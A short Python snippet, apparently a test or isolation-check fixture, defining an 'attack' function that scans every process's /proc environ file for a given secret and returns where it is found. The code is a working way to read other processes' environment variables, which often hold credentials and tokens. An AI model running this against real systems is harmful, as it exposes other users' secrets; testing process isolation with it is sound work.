"""Read another process's environment."""
import glob


def attack(target):
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            if target["secret"] in open(path, errors="replace").read():
                return path
        except OSError:
            pass
